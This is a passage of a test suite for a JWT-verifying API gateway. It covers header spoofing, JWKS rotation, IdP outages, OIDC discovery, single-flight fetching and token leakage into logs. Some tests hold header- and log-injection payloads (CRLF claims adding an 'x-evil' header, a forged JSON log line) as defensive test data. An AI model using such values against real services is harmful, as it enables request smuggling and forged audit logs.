  assert.equal(seen.headers["x-edgegate-application"], "real-app");
  assert.equal(seen.headers["x-edgegate-scopes"], undefined, "the token has no scope: the client's value is dropped");
  assert.equal(seen.headers["x-edgegate-auth-method"], "jwt");
  const raw = seen.rawHeaders.filter((_, i) => i % 2 === 0).map((n) => n.toLowerCase());
  for (const name of Object.keys(spoof).map((n) => n.toLowerCase())) {
    assert.ok(raw.filter((n) => n === name).length <= 1, `${name} appears at most once`);
  }
  const anon = await call("/secure/open", { headers: spoof });
  assert.equal(anon.res.status, 200);
  for (const [name, value] of Object.entries(spoof)) {
    assert.notEqual(anon.seen.headers[name.toLowerCase()], value, `${name} not forwarded on the anonymous route`);
  }
  const pub = await call("/public/x", { headers: spoof });
  assert.equal(pub.res.status, 200);
  for (const name of Object.keys(spoof)) {
    assert.equal(pub.seen.headers[name.toLowerCase()], undefined, `${name} stripped on a route without auth`);
  }
  assert.equal(pub.log.auth_method, null, "no auth policy → auth_method null");
});

test("a signed sub / azp with CR, LF or NUL never reaches the backend as a header, and is not blamed on the backend", async () => {
  for (const [what, claims] of [
    ["sub CRLF", { sub: "u\r\nx-evil: 1" }],
    ["sub LF", { sub: "u\nx-evil: 1" }],
    ["sub NUL", { sub: "u\u0000v" }],
    ["azp CRLF", { azp: "app\r\nx-evil: 1" }],
  ]) {
    const r = await call("/secure/any/ctl", { token: idp.main.sign({ alg: "ES256", claims }) });
    assert.ok(
      r.res.status === 200 || r.res.status === 401,
      `${what}: expected 200 (header made safe) or 401 (token refused), got ${r.res.status} ${r.log.error_code} (${r.log.error_detail}); attempts ${r.log.attempts}, backend requests ${r.seen ? 1 : 0}`,
    );
    if (r.res.status === 200) {
      for (const [name, value] of Object.entries(r.seen.headers)) {
        assert.ok(!/[\r\n\0]/.test(String(value)), `${what}: header ${name} carries a control character`);
      }
      assert.equal(r.seen.headers["x-evil"], undefined, `${what}: no injected header`);
    } else {
      assertProblem(r.res, { status: 401, code: "malformed_token" });
    }
  }
});

test("claims cannot inject log lines: a newline and JSON in iss or kid stay inside one access line", async () => {
  const forged = '"}\n{"kind":"access","request_id":"forged-by-token","status":200}\n';
  const mark = gw.logs.mark();
  // Control characters in a claim that is sent on in headers make the token malformed.
  const r1 = await expectRejected(idp.main.sign({ alg: "ES256", claims: { iss: `x${forged}` } }), "malformed_token");
  const real = idp.main.keyFor("ES256");
  const r2 = await expectRejected(idp.main.sign({ alg: "ES256", key: real, kid: `k${forged}` }), "unknown_key");
  for (const r of [r1, r2]) assert.equal(gw.logs.accessFor(r.log.request_id, mark).length, 1);
  assert.equal(gw.logs.access(mark).filter((e) => e.request_id === "forged-by-token").length, 0);
  assert.equal(gw.logs.other.filter((o) => o.line.includes("forged-by-token")).length, 0, "no half-line in workerd's output");
});

// ------------------------------------------------------------------------------ rotation

test("rotation: the old kid keeps working; a new kid is accepted after exactly one JWKS refetch", async () => {
  const rot = idp.rot;
  const k1 = rot.keyFor("ES256");
  await expectOk(rot.sign({ key: k1 }), { what: "k1 (first fetch)" });
  assert.equal(rot.counts.jwks, 1, "the first token fetched the JWKS once");
  const k2 = await rot.addKey("ES256"); // published
  await waitRefetchWindow();
  const before = rot.counts.jwks;
  const { seen } = await expectOk(rot.sign({ key: k2, claims: { sub: "via-k2" } }), { what: "k2 (new kid)" });
  assert.equal(seen.headers["x-edgegate-subject"], "via-k2");
  assert.equal(rot.counts.jwks - before, 1, "exactly one JWKS refetch for the new kid");
  await expectOk(rot.sign({ key: k1 }), { what: "k1 after rotation" });
  await expectOk(rot.sign({ key: k2 }), { what: "k2 again" });
  assert.equal(rot.counts.jwks - before, 1, "known kids need no fetch");
});

test("rotation: an unknown kid → one refetch then unknown_key; a second unknown kid within refetch_interval_s → no extra fetch", async () => {
  const rot = idp.rot;
  const u1 = await rot.addKey("ES256", { publish: false });
  const u2 = await rot.addKey("ES256", { publish: false });
  await waitRefetchWindow();
  const before = rot.counts.jwks;
  await expectRejected(rot.sign({ key: u1 }), "unknown_key", { what: "first unknown kid" });
  assert.equal(rot.counts.jwks - before, 1, "one refetch for the unknown kid");
  await expectRejected(rot.sign({ key: u2 }), "unknown_key", { what: "second unknown kid" });
  await expectRejected(rot.sign({ key: u1 }), "unknown_key", { what: "first unknown kid again" });
  assert.equal(rot.counts.jwks - before, 1, "no extra fetch within refetch_interval_s");
  // Known kids are unaffected by the refused ones.
  await expectOk(rot.sign({ key: rot.keyFor("ES256") }));
  // Publishing u1 makes it valid after the next window's one refetch.
  rot.publish(u1.kid);
  await waitRefetchWindow();
  await expectOk(rot.sign({ key: u1 }), { what: "u1 once published" });
  assert.equal(rot.counts.jwks - before, 2);
});

test("rotation: a key removed from the JWKS stops verifying, also tokens verified (cached) before", async () => {
  const rot = idp.rot;
  const old = rot.keyFor("ES256");
  const cached = rot.sign({ key: old, claims: { sub: "cached" } });
  await expectOk(cached, { what: "verified while the key is published" });
  rot.unpublish(old.kid);
  const trigger = await rot.addKey("ES256", { publish: false });
  await waitRefetchWindow();
  const before = rot.counts.jwks;
  await expectRejected(rot.sign({ key: trigger }), "unknown_key", { what: "unknown kid (makes the refetch)" });
  assert.equal(rot.counts.jwks - before, 1);
  const ev = await gw.logs.waitForEvent("jwks_fetched", (e) => e.provider === "rot" && e.removed >= 1);
  assert.ok(ev.removed >= 1, "the fetch reports the removed key");
  await expectRejected(cached, "unknown_key", { what: "the cached token of the removed key" });
  await expectRejected(rot.sign({ key: old }), "unknown_key", { what: "a new token of the removed key" });
  assert.equal(rot.counts.jwks - before, 1, "no further fetch within the window");
});

test("tokens refused on their claims (expired, wrong audience, wrong issuer) never cause a JWKS fetch, whatever their kid", async () => {
  const rot = idp.rot;
  const unknown = await rot.addKey("ES256", { publish: false });
  await waitRefetchWindow(); // a fetch would be allowed now
  const before = rot.counts.jwks;
  await expectRejected(rot.sign({ key: unknown, claims: { exp: now() - 3600 } }), "token_expired");
  await expectRejected(rot.sign({ key: unknown, claims: { aud: "elsewhere" } }), "wrong_audience");
  await expectRejected(rot.sign({ key: unknown, claims: { nbf: now() + 3600 } }), "token_not_yet_valid");
  await expectRejected(rot.sign({ key: unknown, claims: { iss: "https://nobody.example" } }), "wrong_issuer");
  await expectRejected(unsignedToken(rot.claims(), { header: { kid: unknown.kid } }), "algorithm_not_allowed");
  assert.equal(rot.counts.jwks - before, 0, "no JWKS fetch for tokens refused before the key lookup");
});

test("unusable JWKS entries are skipped, never trusted: RSA-1024, use=enc, a private JWK, alg not fitting the key, key_ops without verify", async () => {
  const weak = idp.weak;
  const mark = gw.logs.mark();
  await expectOk(weak.sign({ kid: "weak-good", alg: "ES256" }), { what: "the good key" });
  const ev = await gw.logs.waitForEvent("jwks_fetched", (e) => e.provider === "weak", { from: mark });
  assert.equal(ev.keys, 1, `one usable key (${JSON.stringify(ev)})`);
  assert.equal(ev.skipped.length, 5, `five skipped, each with a reason: ${JSON.stringify(ev.skipped)}`);
  for (const kid of ["weak-rsa-1024", "weak-enc", "weak-private", "weak-key-ops"]) {
    const k = weak.key(kid);
    await expectRejected(weak.sign({ key: k }), "unknown_key", { what: kid });
  }
  await expectRejected(weak.sign({ key: weak.key("weak-alg-mismatch") }), "unknown_key", { what: "weak-alg-mismatch (RS256)" });
});

test("Cache-Control max-age sets how long known keys are trusted (clamped to jwks_min_ttl_s … jwks_max_ttl_s)", async () => {
  const ttl = idp.ttl;
  ttl.cacheControl = "public, max-age=1";
  await expectOk(ttl.sign({ alg: "ES256" }), { what: "first" });
  assert.equal(ttl.counts.jwks, 1);
  ttl.cacheControl = "max-age=3600";
  await waitRefetchWindow(); // > 1 s: the keys are past their max-age
  await expectOk(ttl.sign({ alg: "ES256" }), { what: "after max-age=1 expired" });
  assert.equal(ttl.counts.jwks, 2, "known keys past max-age are refetched");
  await waitRefetchWindow();
  await expectOk(ttl.sign({ alg: "ES256" }), { what: "within max-age=3600" });
  assert.equal(ttl.counts.jwks, 2, "keys within max-age are not refetched");
});

// ------------------------------------------------------------------------------ outages

test("IdP outage with cached keys (refused, reset, 500, hang) → still 200 from the stale keys", async () => {
  const stale = idp.stale; // Cache-Control: no-store and jwks_min_ttl_s 0: keys are always stale
  await expectOk(stale.sign({ alg: "ES256" }), { what: "keys loaded" });
  try {
    for (const mode of ["refused", "reset", "500", "hang"]) {
      await stale.setOutage(mode);
      await waitRefetchWindow();
      const before = stale.counts.jwks;
      const mark = gw.logs.mark();
      const { res } = await expectOk(stale.sign({ alg: "ES256", claims: { sub: `during-${mode}` } }), { what: `outage ${mode}` });
      assert.ok(res.elapsedMs < IDP_TIMEOUT_MS + 2000, `answered after the fetch timeout at most (${res.elapsedMs} ms)`);
      const ev = await gw.logs.waitForEvent("jwks_fetch_failed", (e) => e.provider === "stale", { from: mark });
      assert.equal(ev.serving_cached, true);
      assert.equal(stale.counts.jwks - before, mode === "refused" ? 0 : 1, `the refetch ${mode === "refused" ? "was refused" : "reached the IdP"}`);
    }
  } finally {
    await stale.setOutage(null);
  }
  await waitRefetchWindow();
  const before = stale.counts.jwks;
  await expectOk(stale.sign({ alg: "ES256" }), { what: "IdP back" });
  assert.equal(stale.counts.jwks - before, 1, "keys are fetched again once the IdP is back");
});

test("an outage longer than max_stale_s → 503 idp_unavailable with Retry-After; recovers when the IdP is back", async () => {
  const strict = idp.strict; // keys trusted 1 s, max_stale_s 0
  await expectOk(strict.sign({ alg: "ES256" }), { what: "keys loaded" });
  try {
    await strict.setOutage("500");
    await waitRefetchWindow();
    const { res } = await expectRejected(strict.sign({ alg: "ES256" }), "idp_unavailable", { status: 503 });
    assert.equal(res.headers["retry-after"], "10");
  } finally {
    await strict.setOutage(null);
  }
  await waitRefetchWindow();
  await expectOk(strict.sign({ alg: "ES256" }), { what: "IdP back" });
});

test("IdP outage with no cached keys → 503 idp_unavailable (refused, 500, hang, a non-JSON JWKS); then recovery", async () => {
  const down = idp.down;
  const token = () => down.sign({ alg: "ES256" });
  try {
    for (const mode of ["refused", "500", "hang", "garbage"]) {
      if (mode === "garbage") {
        await down.setOutage(null);
        down.jwksBodyOverride = "<html>not a jwks</html>";
      } else {
        await down.setOutage(mode);
      }
      await waitRefetchWindow();
      const before = down.counts.jwks;
      const { res, log } = await expectRejected(token(), "idp_unavailable", { status: 503, what: mode });
      assert.equal(res.headers["retry-after"], "10", `${mode}: Retry-After`);
      assert.equal(down.counts.jwks - before, mode === "refused" ? 0 : 1, `${mode}: one fetch attempt`);
      assert.ok(res.elapsedMs < IDP_TIMEOUT_MS + 2000, `${mode}: bounded by timeout_ms (${res.elapsedMs} ms)`);
      assert.ok(!res.text.includes(`127.0.0.1:${down.port}`), "the IdP address is not shown to the client");
      assert.ok(log.error_detail, "the reason is in the log");
      // Within the window, no new attempt: still 503, no fetch.
      await expectRejected(token(), "idp_unavailable", { status: 503, what: `${mode} again` });
      assert.equal(down.counts.jwks - before, mode === "refused" ? 0 : 1, `${mode}: no second attempt within the window`);
    }
  } finally {
    down.jwksBodyOverride = null;
    await down.setOutage(null);
  }
  await waitRefetchWindow();
  await expectOk(token(), { what: "IdP back" });
});

// ------------------------------------------------------------------------------ OIDC

test("OIDC discovery: the JWKS comes from the discovered jwks_uri; discovery is not repeated on refetch", async () => {
  const oidc = idp.oidc;
  const { seen } = await expectOk(oidc.sign({ alg: "RS256", claims: { sub: "oidc-user" } }), { what: "RS256" });
  assert.equal(seen.headers["x-edgegate-issuer"], oidc.issuer);
  assert.equal(oidc.counts.discovery, 1, "one discovery request");
  assert.equal(oidc.counts.jwks, 1, "one JWKS request");
  await expectOk(oidc.sign({ alg: "ES256" }), { what: "ES256" });
  const k = await oidc.addKey("EdDSA");
  await waitRefetchWindow();
  await expectOk(oidc.sign({ key: k }), { what: "a new EdDSA key" });
  assert.equal(oidc.counts.jwks, 2, "the new kid made one JWKS refetch");
  assert.equal(oidc.counts.discovery, 1, "the discovered jwks_uri is reused");
  const disc = oidc.requests.find((r) => r.kind === "discovery");
  assert.equal(disc.method, "GET");
});

test("OIDC discovery whose issuer differs from the configured one → 503 idp_unavailable, its jwks_uri is not fetched", async () => {
  const oidc = idp.oidc;
  const before = { ...oidc.counts };
  const token = oidc.sign({ alg: "ES256", claims: { iss: "https://not-the-discovered-issuer.edgegate.test" } });
  await expectRejected(token, "idp_unavailable", { status: 503 });
  assert.equal(oidc.counts.discovery - before.discovery, 1, "the discovery document was read");
  assert.equal(oidc.counts.jwks - before.jwks, 0, "its jwks_uri was not used");
});

test("OIDC discovery naming a non-https (non-loopback) jwks_uri → 503 idp_unavailable", async () => {
  const d = idp.oidcuri;
  await expectRejected(d.sign({ alg: "ES256" }), "idp_unavailable", { status: 503 });
  assert.equal(d.counts.discovery, 1);
  assert.equal(d.counts.jwks, 0);
});

test("a cached (already verified) token is still checked against each route's own rules", async () => {
  const es = idp.main.sign({ alg: "ES256", claims: { sub: "cached-multi" } });
  await expectOk(es, { what: "verified on /any" });
  await expectRejected(es, "algorithm_not_allowed", { path: "/secure/rs-only", what: "ES256 on the RS256-only route" });
  await expectRejected(es, "missing_claim", { path: "/secure/claims", what: "no tenant claim" });
  // Verified for the oidc provider on /any; /secure/rs-only accepts only `main`.
  const rs = idp.oidc.sign({ alg: "RS256", claims: { sub: "oidc-cached" } });
  await expectOk(rs, { what: "oidc RS256 on /any" });
  await expectRejected(rs, "wrong_issuer", { path: "/secure/rs-only", what: "oidc RS256 on the main-only route" });
  await expectOk(rs, { what: "and still fine on /any" });
});

// ------------------------------------------------------------------------------ cron

test("the cron prefetches JWKS: the IdP's counter increments, config_check has jwks_keys > 0, the next request fetches nothing", async () => {
  const cron = idp.cron;
  assert.equal(cron.counts.jwks, 0, "nothing asked this IdP before");
  await waitRefetchWindow();
  const mark = gw.logs.mark();
  await gw.scheduled();
  lastCall = Date.now();
  const check = await gw.logs.waitForEvent("config_check", () => true, { from: mark });
  assert.ok(Number.isInteger(check.jwks_keys) && check.jwks_keys > 0, `config_check jwks_keys: ${JSON.stringify(check)}`);
  assert.equal(cron.counts.jwks, 1, "the cron fetched this IdP's JWKS once");
  const fetched = gw.logs.events("jwks_fetched", mark).find((e) => e.provider === "cron");
  assert.ok(fetched, "a jwks_fetched event for the provider");
  assert.equal(fetched.keys, 1);
  const { seen } = await expectOk(cron.sign({ alg: "ES256", claims: { sub: "after-cron" } }));
  assert.equal(seen.headers["x-edgegate-subject"], "after-cron");
  assert.equal(cron.counts.jwks, 1, "the prefetched keys served the request");
});

// ------------------------------------------------------------------------------ single flight

/**
 * Sends every { path, token } at once, each with its own request id. Returns, per request,
 * { res, log (null if the gateway wrote no access line), seen }. A request the runtime itself
 * answered (no X-Request-ID) has no access line to wait for.
 */
async function callConcurrently(items) {
  const mark = gw.logs.mark();
  const ids = items.map(() => uniqueId("sf"));
  const results = await Promise.all(
    items.map(({ path, token }, i) => {
      sentTokens.add(token);
      return gw
        .request({ path, headers: { "x-request-id": ids[i], authorization: `Bearer ${token}` } })
        .catch((e) => ({ status: 0, headers: {}, text: `client error: ${e.message}` }));
    }),
  );
  lastCall = Date.now();
  const logs = await Promise.all(
    results.map((r, i) =>
      r.headers["x-request-id"] ? gw.logs.waitForAccess(ids[i], { from: mark, timeoutMs: 3000 }).catch(() => null) : null,
    ),
  );
  return results.map((res, i) => ({ res, log: logs[i], seen: api.byRequestId(ids[i])[0] ?? null }));
}

/** "49 × 500 (runtime, no X-Request-ID): <body>; 1 × 200" plus workerd's cross-request warning, if any. */
function tally(results, from = 0) {
  const groups = new Map();
  for (const { res } of results) {
    const who = res.headers["x-request-id"] ? "gateway" : "runtime, no X-Request-ID";
    const key = `${res.status} (${who})${res.status === 200 ? "" : `: ${res.text.split("\n")[0].slice(0, 160)}`}`;
    groups.set(key, (groups.get(key) ?? 0) + 1);
  }
  const warning = gw.logs.other
    .slice(from)
    .find((o) => /different request context|hung and would never generate a response/.test(o.line));
  return [...groups].map(([k, n]) => `${n} × ${k}`).join("; ") + (warning ? ` | workerd: ${warning.line.slice(0, 200)}` : "");
}

test("single-flight: 50 concurrent requests with a new kid (present in the rotated JWKS) → exactly one JWKS fetch, all 200", async () => {
  const sf = idp.sf;
  await expectOk(sf.sign({ alg: "ES256" }), { what: "keys loaded" });
  const k2 = await sf.addKey("ES256", { publish: false });
  const items = Array.from({ length: 50 }, (_, i) => ({ path: `/secure/any/sf/${i}`, token: sf.sign({ key: k2, claims: { sub: `sf-${i}` } }) }));
  sf.publish(k2.kid);
  sf.jwksDelayMs = 300; // the fetch is still running while the other requests arrive
  try {
    await waitRefetchWindow();
    const before = sf.counts.jwks;
    const otherFrom = gw.logs.other.length;
    const sentAt = Date.now();
    const results = await callConcurrently(items);
    assert.equal(sf.counts.jwks - before, 1, "exactly one JWKS fetch for 50 concurrent requests");
    const ok = results.filter((r) => r.res.status === 200).length;
    assert.equal(ok, 50, `all 50 must be 200, got: ${tally(results, otherFrom)}`);
    results.forEach((r, i) => {
      assert.equal(r.seen.headers["x-edgegate-subject"], `sf-${i}`);
      assert.equal(r.log?.auth_method, "jwt");
    });
    const fetch = sf.jwksRequestsSince(sentAt)[0];
    const overlapped = results.filter((r) => Date.parse(r.log.time) <= fetch.answeredAt).length;
    assert.ok(overlapped >= 2, `test premise: requests arrived while the fetch ran (${overlapped} of 50)`);
  } finally {
    sf.jwksDelayMs = 0;
  }
});

test("single-flight: two concurrent requests needing the same refetch → both 200 (smallest repro of the above)", async () => {
  const sf = idp.sf;
  const k = await sf.addKey("ES256");
  sf.jwksDelayMs = 300; // both requests are in flight while the JWKS is fetched
  try {
    await waitRefetchWindow();
    const before = sf.counts.jwks;
    const otherFrom = gw.logs.other.length;
    const results = await callConcurrently(
      [0, 1].map((i) => ({ path: `/secure/any/pair/${i}`, token: sf.sign({ key: k, claims: { sub: `pair-${i}` } }) })),
    );
    assert.equal(sf.counts.jwks - before, 1, "one JWKS fetch");
    assert.deepEqual(results.map((r) => r.res.status), [200, 200], tally(results, otherFrom));
  } finally {
    sf.jwksDelayMs = 0;
  }
});

test("single-flight: 50 concurrent requests with a kid the JWKS lacks → one fetch, all 401 unknown_key", async () => {
  const sf = idp.sf;
  const ghost = await sf.addKey("ES256", { publish: false });
  sf.jwksDelayMs = 300;
  try {
    await waitRefetchWindow();
    const before = sf.counts.jwks;
    const otherFrom = gw.logs.other.length;
    const results = await callConcurrently(
      Array.from({ length: 50 }, (_, i) => ({ path: `/secure/any/ghost/${i}`, token: sf.sign({ key: ghost, claims: { sub: `g-${i}` } }) })),
    );
    assert.equal(sf.counts.jwks - before, 1, "exactly one JWKS fetch");
    const refused = results.filter((r) => r.res.status === 401).length;
    assert.equal(refused, 50, `all 50 must be 401 unknown_key, got: ${tally(results, otherFrom)}`);
    for (const r of results) assertProblem(r.res, { status: 401, code: "unknown_key" });
    assert.ok(results.every((r) => r.seen === null), "no request reached the backend");
  } finally {
    sf.jwksDelayMs = 0;
  }
});

test("single-flight: a request arriving while the cron is fetching the JWKS joins that fetch → 200", async () => {
  const sf = idp.sf;
  const k = await sf.addKey("ES256");
  sf.jwksDelayMs = 500;
  try {
    await waitRefetchWindow();
    const before = sf.counts.jwks;
    const otherFrom = gw.logs.other.length;
    const cron = gw.scheduled();
    await sf.waitForCount("jwks", before + 1, 3000); // the cron's fetch is in flight
    const results = await callConcurrently([{ path: "/secure/any/during-cron", token: sf.sign({ key: k }) }]);
    await cron;
    lastCall = Date.now();
    assert.equal(sf.counts.jwks - before, 1, "the request joined the cron's fetch");
    assert.equal(results[0].res.status, 200, tally(results, otherFrom));
  } finally {
    sf.jwksDelayMs = 0;
  }
});

// ------------------------------------------------------------------------------ config reload

/** Activates `doc` as version `id` and waits (bounded) until requests run on it. */
async function activateConfig(id, doc) {
  await gw.putVersion(id, doc);
  await gw.activate(id);
  const deadline = Date.now() + 3000;
  for (;;) {
    const { log } = await call("/public/reload-probe");
    if (log.config_version === id) return;
    if (Date.now() > deadline) throw new Error(`config ${id} not active after 3 s (still ${log.config_version})`);
    await delay(50);
  }
}

test("a config reload keeps the fetched keys and verified tokens of unchanged providers; a changed jwks_uri starts afresh", async () => {
  const rot = idp.rot;
  const key = rot.keyFor("ES256");
  const cached = rot.sign({ key, claims: { sub: "before-reload" } });
  await expectOk(cached, { what: "before the reload" });
  const before = rot.counts.jwks;
  const v2 = structuredClone(config);
  v2.apis[1].routes.push({ name: "extra", methods: ["GET"], path: "/extra" });
  await activateConfig("auth-v2", v2);
  await expectOk(cached, { what: "a token verified before the reload" });
  await expectOk(rot.sign({ key, claims: { sub: "after-reload" } }), { what: "a new token, known kid" });
  assert.equal(rot.counts.jwks - before, 0, "no JWKS fetch after a reload that keeps the provider");
  // The same issuer with another jwks_uri is another key source: its keys are fetched anew.
  const v3 = structuredClone(v2);
  v3.identity_providers.rot.jwks_uri = `${rot.jwksUri}?config=v3`;
  await activateConfig("auth-v3", v3);
  await expectOk(cached, { what: "the cached token under the new key source" });
  assert.equal(rot.counts.jwks - before, 1, "one fetch from the new jwks_uri");
  assert.equal(rot.requests.at(-1).url, "/jwks?config=v3");
  await activateConfig("auth-v1", config);
});

// ------------------------------------------------------------------------------ logs

test("access log: auth_method and subject are recorded; no log line ever contains a token", async () => {
  const token = idp.main.sign({ alg: "RS256", claims: { sub: "log-subject", azp: "log-app" } });
  const { log } = await expectOk(token);
  assert.equal(log.auth_method, "jwt");
  assert.equal(log.subject, "log-subject");
  assert.equal(log.application, "log-app");
  const refused = await expectRejected(tamperSignature(token), "bad_signature");
  assert.equal(refused.log.subject, null, "a refused token names no subject");

  assert.ok(sentTokens.size > 100, `the suite sent many tokens (${sentTokens.size})`);
  const lines = [
    ...gw.logs.entries.map((e) => JSON.stringify(e)),
    ...gw.logs.other.map((o) => o.line),
  ];
  const leaks = [];
  for (const t of sentTokens) {
    const [, payload = "", signature = ""] = t.split(".");
    const needles = [t, payload, signature].filter((n) => n.length >= 16);
    for (const n of needles) {
      const hit = lines.find((l) => l.includes(n));
      if (hit) leaks.push(`${n.slice(0, 24)}… in ${hit.slice(0, 200)}`);
    }
  }
  assert.deepEqual(leaks, [], "token text in the logs");
  assert.ok(gw.logs.access().length > 100, "the logs were captured");
});
